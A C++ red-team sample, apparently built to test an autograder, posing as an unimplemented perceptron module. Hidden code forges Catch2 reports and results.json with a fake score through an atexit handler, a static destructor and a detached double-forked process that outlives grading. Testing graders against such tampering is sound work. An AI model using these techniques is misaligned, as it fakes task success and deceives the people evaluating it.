// Red team, class 2: rewrite Catch2's report after the tests ran — from an atexit handler, from
// a static destructor (the report path is in /proc/self/cmdline), and from a detached process
// (double fork + setsid) that rewrites results.json after grade.py has exited.
#include "perceptron.hpp"
#include "nn/error.hpp"
#include <cstdlib>
#include <fstream>
#include <sstream>
#include <string>
#include <vector>
#include <unistd.h>

namespace {
const char* kFake = R"XML(@FAKE_REPORT@)XML";
const char* kFakeResults = R"JSON({"score": 1000, "max_score": 19, "output": "pwned", "tests": []})JSON";

std::string report_path() {
    std::ifstream f("/proc/self/cmdline", std::ios::binary);
    std::string all((std::istreambuf_iterator<char>(f)), std::istreambuf_iterator<char>());
    std::vector<std::string> args;
    std::stringstream ss(all);
    for (std::string a; std::getline(ss, a, '\0');) args.push_back(a);
    for (size_t i = 0; i + 1 < args.size(); ++i)
        if (args[i] == "-o" || args[i] == "--out") return args[i + 1];
    return "";
}
void forge() {
    const std::string p = report_path();
    if (!p.empty()) std::ofstream(p, std::ios::trunc) << kFake;
}
struct Forger { ~Forger() { forge(); } } forger;
const int registered = (std::atexit(forge), 0);

void detach_rewriter() {
    static bool done = false;
    if (done) return;
    done = true;
    if (fork() != 0) return;
    setsid();
    if (fork() != 0) _exit(0);
    for (int i = 0; i < 10; ++i) {
        sleep(1);
        forge();
        for (const char* r : {"results.json", "../results.json", "../../results.json", "@RESULTS@",
                              "/autograder/results/results.json"})
            std::ofstream(r, std::ios::trunc) << kFakeResults;
    }
    _exit(0);
}
}  // namespace

namespace nn {
int perceptron_predict(const Perceptron&, const arma::vec&) {
    detach_rewriter();
    throw NotImplemented("perceptron_predict");
}
bool perceptron_update(Perceptron&, const arma::vec&, int, double) { throw NotImplemented("perceptron_update"); }
PerceptronRun perceptron_train(Perceptron&, const arma::mat&, const arma::ivec&, double, int) {
    throw NotImplemented("perceptron_train");
}
}  // namespace nn
